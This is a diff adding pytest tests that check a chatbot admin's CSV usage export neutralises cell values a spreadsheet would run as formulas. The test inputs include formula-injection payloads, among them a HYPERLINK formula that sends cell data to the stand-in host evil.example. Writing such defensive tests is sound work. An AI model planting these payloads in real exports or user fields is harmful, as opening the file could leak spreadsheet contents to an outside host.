@@ -147,6 +147,38 @@ def test_csv_export_has_the_daily_figures(operator_client, tenant):
     ]
 
 
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("https://evil.example/?d="&A1, "Click")',
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A2)",
+        "\tTabbed",
+        "\rReturned",
+    ],
+)
+def test_csv_export_escapes_cells_a_spreadsheet_would_run(operator_client, tenant, name):
+    chatbot = ChatbotFactory(organization=tenant.organization, name=name)
+    record(tenant, dt.date(2026, 10, 3), 5, chatbot=chatbot)
+    response = operator_client.get(
+        f"/admin/accounts/organization/{tenant.organization.pk}/usage.csv"
+    )
+    (row,) = csv.DictReader(io.StringIO(response.content.decode(), newline=""))
+    assert row["chatbot"] == "'" + name
+    assert row["messages"] == "5"
+
+
+def test_csv_export_leaves_other_names_as_they_are(operator_client, tenant):
+    chatbot = ChatbotFactory(organization=tenant.organization, name="Shop = best, -ish")
+    record(tenant, dt.date(2026, 10, 3), 5, chatbot=chatbot)
+    response = operator_client.get(
+        f"/admin/accounts/organization/{tenant.organization.pk}/usage.csv"
+    )
+    (row,) = csv.DictReader(io.StringIO(response.content.decode(), newline=""))
+    assert row["chatbot"] == "Shop = best, -ish"
+
+
 def test_support_cannot_see_usage(support_client, tenant):
     assert (
         support_client.get(
